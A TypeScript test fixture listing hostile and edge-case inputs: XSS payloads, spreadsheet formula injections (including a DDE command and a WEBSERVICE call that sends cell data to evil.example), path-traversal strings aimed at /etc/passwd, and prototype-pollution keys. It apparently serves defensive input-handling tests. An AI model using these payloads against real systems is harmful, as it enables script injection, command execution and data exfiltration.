/** Pieces that have hurt programs of this kind before: put wherever a text, a name or a number may stand. */

/** Scripts, markup and links: whatever shows a text must show it as text. */
export const SCRIPTS = [
  '<script>globalThis.__xss=1</script>',
  '<img src=x onerror="globalThis.__xss=1">',
  '<svg onload="globalThis.__xss=1"></svg>',
  '"><script>alert(1)</script>',
  "';alert(1);//",
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  'javascript:globalThis.__xss=1',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${globalThis.__xss=1}',
  ']]><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<img src=https://evil.example/pixel.png>',
  '<form action=https://evil.example/><input name=a autofocus onfocus=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
] as const;

/** Formulas, as spreadsheet programs take them. */
export const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("https://evil.example","x")',
  '=cmd|" /C calc"!A0',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '|calc',
  '%0A=1',
] as const;

/** Names that mean something to JavaScript objects. */
export const PROTOTYPES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'] as const;

/** Names that mean something to file systems. */
export const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\..\\Windows\\win.ini',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '\\\\server\\share\\a',
  'a\u0000.json',
  'CON',
  'AUX.json',
  'COM1',
  'a:b',
  'a.json.',
  'a.json ',
  '%2e%2e%2fa',
  './result.json',
  'files/../result.json',
  'results//a.json',
  'xl/../customXml/item1.xml',
] as const;

/** Numbers at the edges of what formats can write. */
export const NUMBERS = [
  '0',
  '-0',
  '-1',
  '1e999',
  '-1e999',
  '1e-999',
  'NaN',
  'Infinity',
  '9007199254740993',
  '0x10',
  '1_000',
  '1.0000000000000000000000001',
  '99999999999999999999999999999999',
  '.5',
  '01',
] as const;

/** Texts that are awkward in other ways. */
export const TEXTS = [
  '',
  ' ',
  '\u0000',
  '\u0007\u001b[31m',
  '\ud800',
  '\udfff\ud800',
  '\u202eenod',
  '\ufeff',
  '\u2028',
  'e\u0323\u0302'.repeat(40),
  'Z\u0351\u036b\u0343'.repeat(60),
  'ộ'.repeat(300),
  'a'.repeat(5001),
  '0'.repeat(400),
  '1/0',
  'null',
  'undefined',
  'true',
  '2026-02-30',
  '2026-13-01T99:99:99Z',
] as const;

export const ALL_TEXTS: readonly string[] = [...SCRIPTS, ...FORMULAS, ...PROTOTYPES, ...PATHS, ...NUMBERS, ...TEXTS];
